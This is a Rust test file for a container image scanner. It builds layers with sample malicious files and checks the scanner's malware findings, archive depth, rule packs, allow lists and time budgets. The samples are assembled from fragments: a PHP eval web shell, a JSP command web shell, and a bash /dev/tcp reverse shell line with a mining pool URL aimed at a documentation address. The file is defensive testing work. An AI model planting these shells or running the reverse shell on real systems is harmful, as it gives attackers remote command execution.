//! Images with malicious files in them, as the scanner sees them.
//!
//! In: layers made here, harmless bytes that only look like something. Out: what the inspection finds of them. Odd: the test
//! string and web shells are put together from pieces, so that no other scanner takes this file for one.

#![expect(clippy::unwrap_used, clippy::indexing_slicing, reason = "helpers of tests")]

use std::{fs, path::Path, time::Duration};

use plimsoll_image::{
    Budget, ImageDocuments, Layer, LayerBuilder, LayerDescriptor, Tree, TreePath, parse_config,
    read_blob,
};
use plimsoll_inspect::{
    Inspection, Kinds, LayerFacts, LayerInspector, Malware, MalwareEngine, MalwareFile, heuristics,
    inspect_image, unread_claims,
};
use plimsoll_model::{Finding, GapReason, Kind, Level};
use plimsoll_yara::{Engine, Rules};

fn layer(files: &[(&str, &[u8])]) -> Layer {
    let add = |builder: LayerBuilder, (path, bytes): &(&str, &[u8])| builder.file(path, bytes);
    files.iter().fold(Layer::builder("test"), add).build().unwrap()
}

fn inspect(malware: &Malware, layers: &[Layer]) -> Inspection {
    let budget = Budget::default();
    let mut facts: Vec<LayerFacts> = Vec::new();
    for layer in layers {
        let mut inspector = LayerInspector::new(&budget).with_malware(Some(malware));
        let size = layer.bytes().len() as u64;
        let expected =
            LayerDescriptor { digest: Some(layer.digest()), size, ..LayerDescriptor::default() };
        let entries = read_blob(&mut layer.bytes(), &expected, &budget, &mut inspector).unwrap();
        facts.push(inspector.finish(entries));
    }
    let (tree, _) = Tree::merge(facts.iter().map(|facts| &facts.entries));
    let links = unread_claims(&tree, &facts);
    let documents = ImageDocuments {
        name: "shop/app:1".to_owned(),
        source_kind: "oci-layout",
        manifest: None,
        manifest_digest: None,
        config: b"{}".to_vec(),
        config_digest: None,
        layers: vec![LayerDescriptor::default(); layers.len()],
        platform: None,
        total_size: 0,
    };
    let config = parse_config(b"{}").unwrap();
    inspect_image(
        &tree,
        &facts,
        &links,
        &documents,
        &config,
        plimsoll_model::Kinds::ALL,
        Some(malware),
    )
}

fn found(malware: &Malware, layers: &[Layer]) -> Vec<Finding> {
    let findings = inspect(malware, layers).findings;
    findings.into_iter().filter(|finding| finding.kind == Kind::Malware).collect()
}

fn ids(findings: &[Finding]) -> Vec<&str> {
    findings.iter().map(|finding| finding.id.as_str()).collect()
}

fn embedded() -> Malware {
    Rules::embedded().open().unwrap()
}

/// A program as it comes from a linker: one segment, and a table of sections unless it was taken out.
fn program(sections: bool, marks: &[u8]) -> Vec<u8> {
    let mut bytes = vec![0_u8; 64 + 56];
    bytes[..7].copy_from_slice(b"\x7fELF\x02\x01\x01");
    bytes[16] = 2;
    bytes[32] = 64;
    bytes[54] = 56;
    bytes[56] = 1;
    bytes[64] = 1;
    bytes.extend(marks);
    let at = bytes.len() as u64;
    bytes[96..104].copy_from_slice(&at.to_le_bytes());
    if sections {
        bytes[40..48].copy_from_slice(&at.to_le_bytes());
        bytes[58] = 64;
        bytes[60] = 1;
        bytes.extend([0; 64]);
    }
    bytes
}

fn eicar() -> Vec<u8> {
    [&b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR"[..], b"-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"].concat()
}

fn shell() -> Vec<u8> {
    [&b"<?php @ev"[..], b"al($_PO", b"ST['c']); ?>"].concat()
}

/// A database with one package, which owns `usr/bin/tool` with that MD5.
fn database(md5: &str) -> Vec<(&'static str, Vec<u8>)> {
    let status = "Package: tool\nStatus: install ok installed\nVersion: 1\nArchitecture: amd64\n\n";
    vec![
        ("var/lib/dpkg/status", status.into()),
        ("var/lib/dpkg/info/tool.list", b"/.\n/usr\n/usr/bin\n/usr/bin/tool\n".to_vec()),
        ("var/lib/dpkg/info/tool.md5sums", format!("{md5}  usr/bin/tool\n").into()),
    ]
}

fn with(database: &[(&'static str, Vec<u8>)], files: &[(&str, &[u8])]) -> Layer {
    let mut all: Vec<(&str, &[u8])> =
        database.iter().map(|(path, bytes)| (*path, bytes.as_slice())).collect();
    all.extend_from_slice(files);
    layer(&all)
}

const OTHER: &str = "00000000000000000000000000000000";

/// Of each rule that is code: an image in which it finds something, and one in which it does not.
#[test]
fn every_rule_that_is_code_has_an_image_with_and_one_without() {
    let malware = embedded();
    let good = program(true, b"");
    let (packed, cut) = (program(false, b"UPX!"), program(false, b""));
    let owned = database(OTHER);
    let md5 = md5_of(&good);
    let mut lists = lists("a.md5", &format!("{md5}\n"));
    lists.version.clear();
    let eicar = eicar();
    let cases: Vec<(&str, Layer, Layer)> = vec![
        ("eicar_test_file", layer(&[("srv/x", &eicar)]), layer(&[("srv/x", &eicar[1..])])),
        (
            "elf_packed_upx",
            layer(&[("opt/x", &packed)]),
            with(&database(&md5_of(&packed)), &[("usr/bin/tool", &packed)]),
        ),
        ("elf_without_sections", layer(&[("opt/x", &cut)]), layer(&[("opt/x", &good)])),
        ("elf_in_temporary_folder", layer(&[("tmp/x", &good)]), layer(&[("opt/x", &good)])),
        (
            "elf_in_hidden_folder",
            layer(&[("opt/.x/y", &good)]),
            layer(&[("root/.cargo/bin/y", &good)]),
        ),
        ("elf_hidden_name", layer(&[("usr/bin/.x", &good)]), layer(&[("usr/bin/x", &good)])),
        (
            "system_tool_without_package",
            with(&owned, &[("usr/bin/ps", &good)]),
            layer(&[("usr/bin/ps", &good)]),
        ),
        (
            "package_file_changed",
            with(&owned, &[("usr/bin/tool", &good)]),
            with(&database(&md5), &[("usr/bin/tool", &good)]),
        ),
    ];
    for (id, bad, good) in &cases {
        assert_eq!(ids(&found(&malware, std::slice::from_ref(bad))), [*id]);
        assert!(ids(&found(&malware, std::slice::from_ref(good))).is_empty(), "{id}");
    }
    assert_eq!(ids(&found(&lists, &[layer(&[("opt/x", &good)])])), ["hash_list"]);
    assert_eq!(ids(&found(&lists, &[layer(&[("opt/x", &packed)])])), ["elf_packed_upx"]);
    let mut covered: Vec<&str> = cases.iter().map(|(id, ..)| *id).collect();
    covered.push("hash_list");
    covered.sort_unstable();
    let mut all: Vec<String> = heuristics().into_iter().map(|about| about.id).collect();
    all.sort_unstable();
    assert_eq!(covered, all, "a rule that is code has no images here");
}

fn md5_of(bytes: &[u8]) -> String {
    // Of a file that a list names by its SHA-256, the finding says the MD5.
    let sha = ring::digest::digest(&ring::digest::SHA256, bytes);
    let hex: String = sha.as_ref().iter().map(|byte| format!("{byte:02x}")).collect();
    let lists = lists("a.sha256", &hex);
    let path = TreePath::from("srv/anything");
    let content = plimsoll_inspect::Content::of_bytes(bytes);
    let facts = plimsoll_inspect::look_at_file(&lists, &path, content, &Budget::default());
    facts.malware.unwrap().md5
}

/// The embedded rules and one list.
fn lists(name: &str, text: &str) -> Malware {
    let folder = tempfile::tempdir().unwrap();
    fs::create_dir(folder.path().join("lists")).unwrap();
    fs::write(folder.path().join("lists").join(name), text).unwrap();
    Rules::at(vec![folder.path().to_owned()]).unwrap().open().unwrap()
}

#[test]
fn what_is_found_says_what_the_counters_and_the_api_need() {
    let findings = found(&embedded(), &[layer(&[("var/www/html/a.php", &shell())])]);
    let [finding] = findings.as_slice() else { panic!("{findings:?}") };
    assert_eq!(finding.id, "webshell_php_request_executed");
    assert_eq!(finding.level, Level::High);
    let said = ["malicious_level", "virus_type", "malicious_key", "malicious_type", "size"];
    assert_eq!(
        said.map(|key| finding.extra[key].as_str()),
        ["serious", "WebShell", "WEBSHELL_IMG", "WebShell", "28"]
    );
    assert_eq!(finding.record, format!("malware:{}:var/www/html/a.php", finding.extra["md5"]));
    assert_eq!((finding.extra["md5"].len(), finding.extra["sha256"].len()), (32, 64));
    let marks: serde_json::Value = serde_json::from_str(&finding.extra["highlight"]).unwrap();
    assert_eq!(marks[0]["rule"], "webshell_php_request_executed");
    assert!(!finding.extra.contains_key("removed"));
    assert!(
        finding.evidence[0].detail.starts_with("webshell_php_request_executed: $direct at byte")
    );
}

#[test]
fn one_path_with_one_content_is_one_finding_with_all_rules() {
    let script = [
        &b"#!/bin/sh\nbash -i >& /dev/t"[..],
        b"cp/192.0.2.1/1 0>&1\ncurl strat",
        b"um+tcp://x.example:1\n",
    ]
    .concat();
    let findings = found(&embedded(), &[layer(&[("opt/x.sh", &script)])]);
    assert_eq!(findings.len(), 1);
    assert_eq!(findings[0].extra["rules"], "miner_pool_address,reverse_shell_bash_socket");
    assert_eq!(findings[0].evidence.len(), 2);
}

#[test]
fn what_only_a_lower_layer_holds_is_a_reminder() {
    let below = layer(&[("var/www/html/a.php", &shell()), ("var/www/html/b.php", &shell())]);
    let above = Layer::builder("test")
        .whiteout("var/www/html/a.php")
        .file("var/www/html/b.php", b"<?php echo 1;")
        .build()
        .unwrap();
    let findings = found(&embedded(), &[below.clone(), above]);
    assert_eq!(findings.len(), 2);
    for finding in &findings {
        assert_eq!((finding.level, finding.extra["removed"].as_str()), (Level::Low, "true"));
        assert_eq!(finding.extra["malicious_level"], "remind");
    }
    // The same file put there again is no second finding.
    let again = layer(&[("var/www/html/a.php", &shell()), ("var/www/html/b.php", &shell())]);
    let findings = found(&embedded(), &[below, again]);
    assert_eq!((findings.len(), findings[0].level), (2, Level::High));
}

#[test]
fn members_of_archives_are_looked_at_two_deep() {
    let inner = zip(&[("e", &eicar())]);
    let middle = zip(&[("inner.zip", &inner)]);
    let outer = zip(&[("middle.zip", &middle)]);
    let jar = zip(&[(
        "WEB-INF/x.jsp",
        &[&b"<% Runtime.getRun"[..], b"time().ex", b"ec(request.getPara", b"meter(\"c\")); %>"]
            .concat(),
    )]);
    let findings = found(
        &embedded(),
        &[layer(&[("a.zip", &inner), ("b.zip", &middle), ("c.zip", &outer), ("d.war", &jar)])],
    );
    let seen: Vec<(&str, &str)> = findings
        .iter()
        .map(|finding| (finding.id.as_str(), finding.extra["malicious_type"].as_str()))
        .collect();
    assert_eq!(
        seen,
        [
            ("webshell_jsp_command_from_request", "WebShell"),
            ("eicar_test_file", "Malicious Software"),
            ("eicar_test_file", "Malicious Software"),
        ]
    );
    assert!(findings[0].evidence[0].detail.contains("in `WEB-INF/x.jsp`"));
    assert!(findings[2].evidence[0].detail.contains("in `inner.zip!/e`"), "{findings:?}");
}

fn zip(members: &[(&str, &[u8])]) -> Vec<u8> {
    use std::io::Write;
    let mut writer = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    for (name, bytes) in members {
        writer.start_file(*name, zip::write::SimpleFileOptions::default()).unwrap();
        writer.write_all(bytes).unwrap();
    }
    writer.finish().unwrap().into_inner()
}

#[test]
fn a_bomb_costs_its_share_and_is_told() {
    let bomb = zip(&[("x.sh", &vec![b' '; 64 << 20])]);
    let inspection = inspect(&embedded(), &[layer(&[("opt/bomb.zip", &bomb)])]);
    let gaps: Vec<_> = inspection.gaps.iter().filter(|gap| gap.by == "malware").collect();
    assert_eq!(gaps.len(), 1, "{:?}", inspection.gaps);
    assert_eq!((gaps[0].reason, gaps[0].at.as_str()), (GapReason::BudgetReached, "opt/bomb.zip"));
}

fn packs(files: &[(&str, &str)]) -> (tempfile::TempDir, Rules) {
    let folder = tempfile::tempdir().unwrap();
    for (name, text) in files {
        let path = folder.path().join(name);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(path, text).unwrap();
    }
    let rules = Rules::at(vec![folder.path().to_owned()]).unwrap();
    (folder, rules)
}

#[test]
fn packs_have_namespaces_levels_and_gates_of_their_own() {
    let rule = "rule MARK { strings: $a = \"m4rk\" condition: $a }";
    let susp =
        "rule SUSP_Mark { meta: author = \"somebody\" strings: $a = \"m4rk\" condition: $a }";
    let (_folder, rules) = packs(&[
        ("one/pack.toml", "name = 'one'\nlevel = 'serious'\ntype = 'Worm'\nkinds = ['script']\n"),
        ("one/a.yar", rule),
        ("two/a.yara", &format!("{rule}\n{susp}")),
    ]);
    let malware = rules.open().unwrap();
    let script = found(&malware, &[layer(&[("x.sh", b"#!/bin/sh m4rk")])]);
    assert_eq!(script[0].extra["rules"], "one/MARK,two/MARK,two/SUSP_Mark");
    assert_eq!((script[0].id.as_str(), script[0].level), ("one/MARK", Level::High));
    assert_eq!(script[0].extra["virus_type"], "Worm");
    assert!(script[0].evidence[2].detail.ends_with("(rule by somebody)"), "{script:?}");
    let page = found(&malware, &[layer(&[("x.php", b"<?php m4rk")])]);
    assert_eq!(page[0].extra["rules"], "two/MARK,two/SUSP_Mark");
    assert_eq!(page[0].level, Level::Medium);
    // A text of no kind is not looked at.
    assert!(found(&malware, &[layer(&[("x.md", b"m4rk")])]).is_empty());
}

#[test]
fn a_file_that_does_not_compile_is_left_out_whole_and_told() {
    let (_folder, rules) = packs(&[
        ("p/bad.yar", "rule first { condition: true }\nrule second { condition: nonsense }"),
        ("p/good.yar", "rule good { strings: $a = \"m4rk\" condition: $a }"),
        ("q/pack.toml", "name = '../q'\n"),
        ("q/a.yar", "rule q { condition: true }"),
        ("p/list.md5", "not a digest\n"),
    ]);
    let malware = rules.open().unwrap();
    let inspection = inspect(&malware, &[layer(&[("x.sh", b"#!/bin/sh m4rk")])]);
    let malicious: Vec<&str> = inspection
        .findings
        .iter()
        .filter(|finding| finding.kind == Kind::Malware)
        .map(|finding| finding.id.as_str())
        .collect();
    assert_eq!(malicious, ["p/good"]);
    let told: Vec<&str> = inspection
        .gaps
        .iter()
        .filter(|gap| gap.by == "malware")
        .map(|gap| gap.detail.as_str())
        .collect();
    assert_eq!(told.len(), 3, "{told:?}");
    assert!(told.iter().any(|text| text.starts_with("rules of p/bad.yar:2 are left out")));
    assert!(told.iter().any(|text| text.contains("letters, digits")));
    assert!(told.iter().any(|text| text.starts_with("p/list.md5:1: ")));
    let summary = rules.summary().unwrap();
    assert_eq!((summary.problems.len(), summary.packs.len()), (3, 2));
}

#[test]
fn what_is_allowed_stays_and_does_not_count() {
    let allow = "[[allow]]\npath = 'var/www/*'\nimage = 'shop/*'\nreason = 'ours'\n";
    let (_folder, rules) = packs(&[("allow.toml", allow)]);
    let findings = found(
        &rules.open().unwrap(),
        &[layer(&[("var/www/html/a.php", &shell()), ("srv/b.php", &shell())])],
    );
    let open: Vec<bool> = findings.iter().map(Finding::is_open).collect();
    assert_eq!((findings.len(), open.iter().filter(|open| **open).count()), (2, 1));
    let allowed = findings.iter().find(|finding| !finding.is_open()).unwrap();
    assert_eq!(allowed.suppressed.as_ref().unwrap().reason, "ours");
    let elsewhere = allow.replace("shop", "bank");
    let (_folder, rules) = packs(&[("allow.toml", &elsewhere)]);
    let findings = found(&rules.open().unwrap(), &[layer(&[("var/www/html/a.php", &shell())])]);
    assert!(findings[0].is_open());
    assert!(rules.version().ends_with(plimsoll_yara::BY_IMAGE));
}

#[test]
fn rules_are_named_by_what_is_in_them() {
    let (folder, rules) = packs(&[("p/a.yar", "rule a { condition: false }")]);
    assert_ne!(rules.version(), Rules::embedded().version());
    assert_eq!(Rules::at(vec![folder.path().to_owned()]).unwrap(), rules);
    fs::write(folder.path().join("p/a.yar"), "rule b { condition: false }").unwrap();
    assert_ne!(Rules::at(vec![folder.path().to_owned()]).unwrap().version(), rules.version());
    let error = rules.open().unwrap_err().to_string();
    assert!(error.ends_with("changed while a scan began"), "{error}");
    assert!(Rules::at(vec![Path::new("/no/such/folder").to_owned()]).is_err());
}

#[test]
fn a_rule_that_never_ends_costs_its_time_and_is_told() {
    let endless = "rule endless { condition: for all i in (0..65535) : ( for all j in (0..65535) : ( uint8(i) + uint8(j) < 600 ) ) }";
    let engine = Engine::of_pack("p", endless).with_time(Duration::from_millis(50));
    let path = TreePath::from("x.sh");
    let bytes = vec![b'x'; 1 << 16];
    let looked = engine.look(&MalwareFile { path: &path, kinds: Kinds::SCRIPT, bytes: &bytes });
    assert!(looked.hits.is_empty());
    assert_eq!(looked.unfinished.unwrap().reason, GapReason::BudgetReached);
    // Nor does it cost its time with every file.
    let again = || {
        let looked = engine.look(&MalwareFile { path: &path, kinds: Kinds::SCRIPT, bytes: &bytes });
        looked.unfinished.map(|problem| problem.detail).unwrap_or_default()
    };
    assert!(again().starts_with("was not looked at by all rules"));
    // From then on each file goes without, and each time it is said.
    for _ in 0..3 {
        let looked = engine.look(&MalwareFile { path: &path, kinds: Kinds::SCRIPT, bytes: &bytes });
        assert_eq!((looked.hits.len(), looked.unfinished), (0, None));
        assert_eq!(looked.given_up.len(), 1);
        assert!(looked.given_up[0].detail.contains("by the rules of p, nor may files behind it"));
    }
}

#[test]
fn each_layer_says_by_itself_what_rules_gave_up() {
    let endless = "rule endless { condition: for all i in (0..65535) : ( for all j in (0..65535) : ( uint8(i) + uint8(j) < 600 ) ) }";
    let malware = Malware {
        engine: Box::new(Engine::of_pack("p", endless).with_time(Duration::from_millis(50))),
        ..embedded()
    };
    let script = vec![b'x'; 1 << 16];
    let slow = layer(&[("a/1.sh", &script), ("a/2.sh", &script), ("a/3.sh", &script)]);
    // What is kept of a later layer is another image's, too, which must not pass for looked at.
    let others = ["b", "c"].map(|name| {
        layer(&[(&format!("{name}/1.sh"), &script), (&format!("{name}/2.sh"), &script)])
    });
    let gaps = inspect(&malware, &[slow, others[0].clone(), others[1].clone()]).gaps;
    let given_up = gaps.iter().filter(|gap| gap.detail.contains("they did not finish"));
    let places: Vec<&str> = given_up.map(|gap| gap.at.as_str()).collect();
    assert_eq!(places, ["a/3.sh", "b/1.sh", "c/1.sh"]);
}

#[test]
fn includes_stay_within_their_pack() {
    let (_folder, rules) = packs(&[
        ("p/pack.toml", "name = 'p'\nfiles = ['main.yar']\n"),
        ("p/main.yar", "include \"part.yar\"\nrule main { condition: part }"),
        ("p/part.yar", "rule part { strings: $a = \"m4rk\" condition: $a }"),
        ("q/main.yar", "include \"../p/other.yar\"\nrule q { condition: true }"),
    ]);
    let malware = rules.open().unwrap();
    let findings = found(&malware, &[layer(&[("x.sh", b"#!/bin/sh m4rk")])]);
    assert_eq!(findings[0].extra["rules"], "p/main,p/part");
    assert_eq!(rules.summary().unwrap().problems.len(), 1);
}
